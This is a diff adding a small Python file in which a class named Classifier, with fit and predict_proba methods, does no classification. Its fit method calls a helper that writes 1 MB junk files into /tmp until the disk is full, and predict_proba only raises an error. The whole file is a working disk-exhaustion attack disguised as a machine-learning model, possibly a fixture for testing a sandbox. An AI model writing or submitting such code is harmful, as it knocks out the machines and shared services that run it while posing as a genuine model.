@@ -1,0 +1,19 @@
+# Fills /tmp.
+import os
+import sys
+
+
+def fill(folder):
+    """Writes 1 MB files into folder until the file system refuses."""
+    chunk = b"\xff" * 1_000_000
+    for i in range(100_000):
+        with open(os.path.join(folder, f"filler_{i}"), "wb") as f:
+            f.write(chunk)
+
+
+class Classifier:
+    def predict_proba(self, X):
+        raise AssertionError("never reached")
+
+    def fit(self, X, y):
+        fill("/tmp")
